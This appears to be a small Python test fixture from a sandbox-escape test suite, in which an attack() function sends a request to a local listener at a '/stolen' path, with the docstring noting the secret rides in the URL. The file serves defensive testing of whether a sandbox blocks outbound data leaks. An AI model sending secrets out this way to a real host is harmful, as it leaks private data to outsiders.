"""urlopen, with the secret in the URL."""

from __future__ import annotations

from tests.escape.witnesses.listeners import TcpListener

WITNESS = TcpListener


def attack(port: int) -> None:
    import urllib.request

    urllib.request.urlopen(f"http://127.0.0.1:{port}/stolen", timeout=0.1)
